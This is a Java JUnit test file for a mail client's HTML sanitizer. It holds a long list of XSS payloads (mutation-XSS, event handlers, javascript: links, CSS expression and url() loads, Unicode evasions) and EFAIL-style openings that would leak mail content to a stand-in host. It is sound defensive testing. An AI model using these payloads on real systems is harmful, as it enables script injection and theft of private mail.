package dev.posthorn.mail;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/// Attacks by HTML. What comes out is read again by a strict reader of its own that knows only what is allowed: an attack
/// that nobody has thought of fails it too.
class HtmlAttacksTest {
  private static final Set<String> ELEMENTS = Set.of("a", "abbr", "address", "article", "b", "bdi", "bdo", "big", "blockquote", "br",
      "caption", "center", "cite", "code", "col", "colgroup", "dd", "del", "dfn", "div", "dl", "dt", "em", "figcaption", "figure", "font",
      "footer", "h1", "h2", "h3", "h4", "h5", "h6", "header", "hr", "i", "img", "ins", "kbd", "li", "main", "mark", "nav", "ol", "p", "pre",
      "q", "rp", "rt", "ruby", "s", "samp", "section", "small", "span", "strike", "strong", "sub", "sup", "table", "tbody", "td", "tfoot",
      "th", "thead", "tr", "tt", "u", "ul", "var");
  private static final Set<String> ATTRIBUTES = Set.of("href", "rel", "src", "data-remote-src", "alt", "title", "lang", "dir", "style",
      "align", "valign", "width", "height", "border", "cellpadding", "cellspacing", "hspace", "vspace", "colspan", "rowspan", "span",
      "bgcolor", "color", "size", "face", "start", "value", "type", "nowrap");
  private static final Pattern TAG = Pattern.compile("</?([a-z][a-z0-9]*)((?: [a-z-]+=\"[^\"<>]*\")*)( /)?>");
  private static final Pattern ATTRIBUTE = Pattern.compile(" ([a-z-]+)=\"([^\"<>]*)\"");

  static Stream<String> attacks() {
    return Stream.of(
        // one parser's text is another's markup (mXSS)
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
        "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
        "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></desc></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=0 y=20>x</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1)></svg>",
        "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"></use></svg>", "<svg/onload=alert(1)>", "<svg><set onbegin=alert(1)></svg>",
        "<math href=\"javascript:alert(1)\">x</math>", "<math><maction actiontype=\"statusline#http://x.example\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
        "<table><style><!--</style></table><img src=x onerror=alert(1)>", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<noembed><img title=\"</noembed><svg onload=alert(1)>\"></noembed>", "<noframes><p title=\"</noframes><script>alert(1)</script>\">",
        "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">", "<title><a title=\"</title><script>alert(1)</script>\">",
        "<iframe><p title=\"</iframe><script>alert(1)</script>\">", "<style><p title=\"</style><script>alert(1)</script>\">",
        "<template><script>alert(1)</script></template>", "<template><img src=x onerror=alert(1)></template>",
        "<select><template><style><!--</style><a rel=\"--></style></template></select><img src onerror=alert(1)>\">",
        "<select><style><script>alert(1)</script></style></select>", "<option><style></option></select><img src=x onerror=alert(1)></style>",
        "<p><plaintext><script>alert(1)</script>", "<listing>&lt;img onerror=\"alert(1);//\" src=x&gt;</listing>",
        "<a title=\"&lt;/a&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">x</a>", "<img alt=\"`><script>alert(1)</script>\" src=x>",
        "<div id=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">x</div>", "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&amp;lt;img src=x onerror=alert(1)&amp;gt;", "<b title='`onmouseover=alert(1)//'>x</b>",
        // comments
        "<!--><img src=x onerror=alert(1)>-->", "<!---><script>alert(1)</script>-->", "<!-- --!><img src=x onerror=alert(1)> -->",
        "<!-- a -- b --><script>alert(1)</script>", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<!--[if mso]><v:rect href=\"javascript:alert(1)\"/><![endif]-->",
        "<![if !vml]><script>alert(1)</script><![endif]>", "<?xml version=\"1.0\"?><script>alert(1)</script>", "<?php echo '<script>alert(1)</script>' ?>",
        "<!DOCTYPE html [<!ENTITY x \"<script>alert(1)</script>\">]>&x;", "<![CDATA[><img src=x onerror=alert(1)>]]>", "</ <script>alert(1)</script>>",
        // scripts under other names
        "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script/src=https://x.example/x.js></script>", "<script\u0000>alert(1)</script>",
        "<scr\u0000ipt>alert(1)</scr\u0000ipt>", "<img\u0000src=x\u0000onerror=alert(1)>", "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "<img src=x onerror\n=\nalert(1)>",
        "<img/src=x/onerror=alert(1)>", "<img src='x'onerror='alert(1)'>", "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>", "<isindex action=javascript:alert(1) type=image>",
        "<p onclick=alert(1) ONMOUSEOVER=alert(2) OnFocus=alert(3)>x</p>", "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
        "<bdo dir=\"rtl\" onscroll=alert(1)>x</bdo>", "<keygen autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>", "<portal src=\"https://x.example/\"></portal>", "<fencedframe></fencedframe>", "<applet code=x></applet>",
        "<dialog open>x</dialog>", "<slot name=x></slot>", "<custom-element onclick=alert(1)>x</custom-element>", "<p is=\"x-evil\" part=x slot=y>x</p>",
        // links
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>", "<a href=\"java&#10;script:alert(1)\">x</a>", "<a href=\"&#x6A;&#x61;vascript:alert(1)\">x</a>",
        "<a href=\"\u0001javascript:alert(1)\">x</a>", "<a href=\"javascript&colon;alert(1)\">x</a>", "<a href=\"java\u0000script:alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>", "<a href=\"vbscript:msgbox(1)\">x</a>", "<a href=\"livescript:x\">x</a>",
        "<a href=\"blob:https://x.example/1\">x</a>", "<a href=\"filesystem:https://x.example/1\">x</a>", "<a href=\"view-source:https://x.example/\">x</a>",
        "<a href=\"ms-msdt:/id PCWDiagnostic\">x</a>", "<a href=\"search-ms:query=x\">x</a>", "<a href=\"intent://x#Intent;end\">x</a>", "<a href=\"file://server/share\">x</a>",
        "<a href=\"\\\\server\\share\">x</a>", "<a href=\"//x.example/\">x</a>", "<a href=\"#top\">x</a>", "<a href=\"?q\">x</a>", "<a href=\"cid:x\">x</a>",
        "<a ping=\"https://x.example/\" href=\"https://y.example/\" target=_top download>x</a>", "<area href=\"javascript:alert(1)\">", "<map name=m><area href=x></map>",
        // loads
        "<img src=\"//x.example/p.gif\">", "<img src=\"/local\">", "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">", "<img src=\"data:image/png;base64,AA==\">",
        "<img srcset=\"https://x.example/p 1x, //x.example/q 2x\" sizes=1>", "<picture><source srcset=\"https://x.example/p\"><img src=x></picture>",
        "<img lowsrc=\"https://x.example/p\" dynsrc=\"https://x.example/q\" longdesc=\"https://x.example/r\" usemap=#m>", "<image src=\"https://x.example/p.gif\">",
        "<link rel=stylesheet href=\"https://x.example/x.css\">", "<link rel=prefetch href=\"https://x.example/\">", "<link rel=dns-prefetch href=\"//x.example\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<meta http-equiv=\"Set-Cookie\" content=\"a=b\">", "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<base href=\"https://x.example/\"><a href=\"go\">x</a>", "<base target=_self>", "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
        "<embed src=\"https://x.example/x.swf\">", "<iframe src=\"https://x.example/\"></iframe>", "<frameset><frame src=\"https://x.example/\"></frameset>",
        "<body background=\"https://x.example/p\">x</body>", "<table background=\"https://x.example/p\"><tr><td background=\"https://x.example/p\">x</table>",
        "<video poster=\"https://x.example/p\" src=\"https://x.example/q\" autoplay></video>", "<track src=\"https://x.example/\">", "<bgsound src=\"https://x.example/\">",
        "<html manifest=\"https://x.example/\">x</html>", "<input type=image src=\"https://x.example/p\">", "<xml src=\"https://x.example/\"></xml>", "<blockquote cite=\"https://x.example/\">x</blockquote>",
        // forms
        "<form action=\"https://x.example/\" method=post><input name=password type=password><button formaction=\"javascript:alert(1)\">x</button></form>",
        "<button type=submit form=f>x</button>", "<select name=x><option>y</select>", "<label for=x>y</label><textarea name=x>y</textarea>", "<input type=hidden name=a value=b>",
        // styles
        "<p style=\"background:url(https://x.example/p)\">x</p>", "<p style=\"background:URL('https://x.example/p')\">x</p>", "<p style=\"background:u\\72 l(https://x.example/p)\">x</p>",
        "<p style=\"background:\\75\\72\\6c(https://x.example/p)\">x</p>", "<p style=\"background:ur/**/l(https://x.example/p)\">x</p>", "<p style=\"background-image:image-set('https://x.example/p' 1x)\">x</p>",
        "<p style=\"background:-webkit-image-set(url(x) 1x)\">x</p>", "<p style=\"background:cross-fade(url(x),url(y))\">x</p>", "<p style=\"background:element(#x)\">x</p>", "<p style=\"background:src('https://x.example/p')\">x</p>",
        "<p style=\"width:expression(alert(1))\">x</p>", "<p style=\"width:exp/**/ression(alert(1))\">x</p>", "<p style=\"width:\\65xpression(alert(1))\">x</p>", "<p style=\"w\\69 dth:e\\78pression(alert(1))\">x</p>",
        "<p style=\"behavior:url(#default#time2)\">x</p>", "<p style=\"-moz-binding:url(https://x.example/x.xml#a)\">x</p>", "<p style=\"-ms-behavior:url(x)\">x</p>", "<p style=\"filter:url(https://x.example/p)\">x</p>",
        "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</p>", "<p style=\"position:absolute;z-index:99999\">x</p>", "<p style=\"transform:scale(100)\">x</p>", "<p style=\"opacity:0\">x</p>",
        "<p style=\"content:url(https://x.example/p)\">x</p>", "<p style=\"cursor:url(https://x.example/p),auto\">x</p>", "<p style=\"list-style-image:url(https://x.example/p)\">x</p>", "<p style=\"border-image:url(https://x.example/p)\">x</p>",
        "<p style=\"mask:url(https://x.example/p)\">x</p>", "<p style=\"font-family:'x';src:url(https://x.example/f)\">x</p>", "<p style=\"--x:url(https://x.example/p);background:var(--x)\">x</p>", "<p style=\"color:attr(title)\">x</p>",
        "<p style=\"@import 'https://x.example/x.css'\">x</p>", "<p style=\"color:red;}</style><script>alert(1)</script>\">x</p>", "<p style='font-family:\"</p><script>alert(1)</script>\"'>x</p>", "<p style=\"font-family:&quot;onclick=alert(1)&quot;\">x</p>",
        "<style>@import url(https://x.example/x.css);</style>", "<style>@\\69mport 'https://x.example/x.css';</style>", "<style>@font-face{font-family:x;src:url(https://x.example/f)}</style>", "<style>a[href^='x']{background:url(https://x.example/p)}</style>",
        "<style>*{position:fixed}</style>", "<style media=\"x\" onload=alert(1)></style>", "<p style=\"margin-left:-9999px;display:none\">x</p>", "<p style=\"width:calc(100% + 1px);height:min(1px,2px)\">x</p>",
        // names that collide, letters that lie
        "<p id=location name=document class=overlay>x</p>", "<img name=getElementById id=cookie>", "<a name=x>y</a>", "<p contenteditable accesskey=x tabindex=1 draggable=true>x</p>",
        "<p data-bind=\"x\" ng-app v-html=\"x\" x-data=\"alert(1)\" hx-get=\"/x\">{{constructor.constructor('alert(1)')()}}</p>", "\u202e<a href=\"https://x.example/\">moc.knab//:sptth</a>\u202c",
        "\u0000<script>alert(1)</script>\u0000", "<p title=\"\u0000\">\u0000</p>", "\ufeff<script>alert(1)</script>", "<\uff53cript>alert(1)</script>", "\u00bcscript\u00bealert(1)\u00bc/script\u00be", "<%00script>alert(1)</script>",
        "<p\u000bonclick=alert(1)>x</p>", "<p\u000conclick=alert(1)>x</p>", "<p\u00a0onclick=alert(1)>x</p>", "<p\u2028onclick=alert(1)>x</p>", "<p/onclick=alert(1)>x</p>", "<p\"onclick=alert(1)>x</p>");
  }

  @ParameterizedTest
  @MethodSource("attacks")
  void onlyWhatIsAllowedComesOut(String html) { // WX-01
    String clean = HtmlSanitizer.sanitize(html);

    assertThat(faults(clean, Set.of("cid:"))).as(clean).isEmpty();
    assertThat(faults(OutgoingHtml.sanitize(html), Set.of("cid:", "http:", "https:"))).isEmpty();
    assertThat(faults(HtmlSanitizer.sanitize(clean), Set.of("cid:"))).isEmpty();
    assertThat(faults(HtmlSanitizer.sanitize("<table><tr><td>" + html + "<p>after"), Set.of("cid:"))).isEmpty();
    assertThat(faults(body(HtmlPage.of(clean, _ -> Optional.of("/api/v1/attachments/1"), false).html()), Set.of("/api/v1/attachments/"))).isEmpty();
  }

  @Test
  void theStrictReaderBites() {
    assertThat(List.of("<script>", "<p onclick=\"x\">", "<a href=\"javascript:x\">", "<p style=\"color:url(x)\">", "<img src=\"https://x\" />", "a < b", "<p title='x'>"))
        .allSatisfy(html -> assertThat(faults(html, Set.of("cid:"))).isNotEmpty());
  }

  @Test
  void aPageShowsItsOwnImagesAndHoldsBackOthers() { // EH-13
    String clean = HtmlSanitizer.sanitize("<img src=\"cid:logo@x.example\" alt=\"a\"><img src=\"cid:gone\"><img src=\"https://x.example/p.gif\" width=1 height=1>"
        + "<a href=\"https://x.example/\">go</a>");

    HtmlPage page = HtmlPage.of(clean, id -> id.equals("logo@x.example") ? Optional.of("/api/v1/attachments/7") : Optional.empty(), false);

    assertThat(HtmlPage.blockedImages(clean)).isEqualTo(1);
    assertThat(page.blockedImages()).isEqualTo(1);
    assertThat(page.html()).contains("<img src=\"/api/v1/attachments/7\" alt=\"a\" />", "data-remote-src=\"https://x.example/p.gif\"", "rel=\"noopener noreferrer nofollow\"")
        .doesNotContain(" src=\"https:", "cid:");
  }

  @Test
  void imagesFromElsewhereAreLoadedWhenAskedFor() {
    String clean = HtmlSanitizer.sanitize("<img src=\"https://x.example/p.gif\"><img src=\"data:image/svg+xml,x\">");

    HtmlPage page = HtmlPage.of(clean, _ -> Optional.empty(), true);

    assertThat(page.blockedImages()).isZero();
    assertThat(page.html()).contains("<img src=\"https://x.example/p.gif\" />").doesNotContain("data:image");
    assertThat(HtmlPage.contentSecurity(true)).contains("sandbox allow-popups", "default-src 'none'", "img-src 'self' data: https: http:").doesNotContain("allow-scripts", "allow-same-origin");
    assertThat(HtmlPage.contentSecurity(false)).contains("img-src 'self' data:;").doesNotContain("http");
  }

  @Test
  void textAloneIsAPageToo() {
    assertThat(HtmlPage.ofText("a < b & <script>").html()).contains("a &lt; b &amp; &lt;script&gt;");
  }

  @ParameterizedTest
  @ValueSource(strings = {"<img src=\"https://x.example/?", "<img src='https://x.example/?", "<a href=\"https://x.example/?", "<!--", "<style>", "<style>p{background:url(",
      "<textarea>", "<plaintext>", "<script>", "<title>", "<xmp>", "<svg><style>", "<p title=\"", "<p style=\"background:url(https://x.example/?", "<![CDATA[", "<select><option>", "<iframe>",
      "<form action=\"https://x.example/\"><textarea name=x>", "<noscript>", "<template>", "<div style=\"display:none\">", "<"})
  void noPartOfAMailReachesIntoItsNeighbour(String opening) { // EFAIL
    String html = HtmlSanitizer.sanitize(mixed("text/html", opening, "text/html", "<p>the secret</p>", "text/html", "\"> <p>after</p>"));

    assertThat(html).contains("<p>the secret</p>").contains("after");
    assertThat(attributes(html)).noneMatch(value -> value.contains("secret"));
    assertThat(faults(html, Set.of("cid:"))).isEmpty();
  }

  @Test
  void whatIsEncryptedIsNeverPartOfAPage() { // EFAIL
    String cipher = Base64.getEncoder().encodeToString("sealed".repeat(20).getBytes(StandardCharsets.UTF_8));
    for (String type : List.of("application/pgp-encrypted", "application/pkcs7-mime; smime-type=enveloped-data", "application/octet-stream")) {
      String html = HtmlSanitizer.sanitize(mixed("text/html", "<img src=\"https://x.example/?", type, cipher, "text/html", "\">after"));

      assertThat(html).doesNotContain(cipher.substring(0, 40)).contains("after");
    }
  }

  private static String mixed(String... typesAndContents) {
    StringBuilder mail = new StringBuilder("From: a@x.example\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n");
    for (int i = 0; i < typesAndContents.length; i += 2) {
      mail.append("\n--b\nContent-Type: ").append(typesAndContents[i]).append("\n\n").append(typesAndContents[i + 1]);
    }
    byte[] bytes = mail.append("\n--b--\n").toString().replace("\n", "\r\n").getBytes(StandardCharsets.UTF_8);
    try (RawMail raw = RawMail.of(bytes); Parsed parsed = new MailParser(MailLimits.DEFAULT).parse(raw)) {
      return ((Parsed.Readable) parsed).mail().html().orElseThrow();
    }
  }

  private static String body(String page) {
    return page.substring(page.indexOf("<body>") + 6, page.indexOf("</body>"));
  }

  /// What of the HTML is not allowed, read tag by tag.
  private static List<String> faults(String shown, Set<String> sources) {
    String html = shown.replace("{<!-- -->{", "{{"); // so that no template engine of a front end takes it for its own
    List<String> faults = new ArrayList<>();
    for (int at = html.indexOf('<'); at >= 0; at = html.indexOf('<', at + 1)) {
      var tag = TAG.matcher(html).region(at, html.length());
      if (!tag.lookingAt()) {
        faults.add("no tag: " + html.substring(at, Math.min(html.length(), at + 40)));
        continue;
      }
      if (!ELEMENTS.contains(tag.group(1))) {
        faults.add("element " + tag.group(1));
      }
      var attribute = ATTRIBUTE.matcher(tag.group(2));
      while (attribute.find()) {
        fault(attribute.group(1), unescaped(attribute.group(2)), sources).ifPresent(faults::add);
      }
    }
    if (html.chars().anyMatch(c -> c == 0) || html.replaceAll(TAG.pattern(), "").contains(">")) {
      faults.add("a loose > or NUL");
    }
    return faults;
  }

  private static Optional<String> fault(String name, String value, Set<String> sources) {
    boolean fine = ATTRIBUTES.contains(name) && switch (name) {
      case "href" -> Stream.of("http://", "https://", "mailto:", "tel:").anyMatch(value.toLowerCase(Locale.ROOT)::startsWith);
      case "src" -> sources.stream().anyMatch(value.toLowerCase(Locale.ROOT)::startsWith);
      case "data-remote-src" -> value.startsWith("http://") || value.startsWith("https://");
      case "style" -> !value.contains("\\") && !value.contains("@") && !value.contains("/*")
          && value.replaceAll("(?i)rgba?\\([0-9.,% ]+\\)", "").chars().noneMatch(c -> c == '(' || c == '<' || c == '{')
          && Stream.of("position", "opacity", "behavior", "binding", "content:", "z-index", "filter", "transform").noneMatch(value::contains);
      default -> true;
    };
    return fine ? Optional.empty() : Optional.of(name + "=" + value);
  }

  private static List<String> attributes(String html) {
    return ATTRIBUTE.matcher(html).results().map(found -> unescaped(found.group(2))).toList();
  }

  private static String unescaped(String value) {
    return Pattern.compile("&#(\\d+);").matcher(value).replaceAll(m -> Matcher.quoteReplacement(Character.toString(Integer.parseInt(m.group(1)))))
        .replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&");
  }
}
